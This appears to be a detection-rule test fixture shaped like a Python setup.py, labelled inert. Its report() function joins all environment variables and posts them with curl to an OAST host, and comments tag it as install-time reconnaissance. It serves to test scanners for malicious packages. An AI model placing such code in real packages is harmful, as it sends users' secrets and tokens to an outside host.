# canary-test: path=setup.py artifact=sdist
# Environment sent with curl to an OAST domain from setup.py (inert).
import os
import subprocess

from setuptools import setup


def report():
    # ruleid: INSTALL_TIME_RECON
    env_vars = os.environ
    data = "&".join(f"{k}={v}" for k, v in env_vars.items())
    # ruleid: INSTALL_TIME_RECON
    subprocess.run(["curl", "-d", data, "http://inert.oast.fun"], check=True)


setup(name="probe", version="0.0.1")
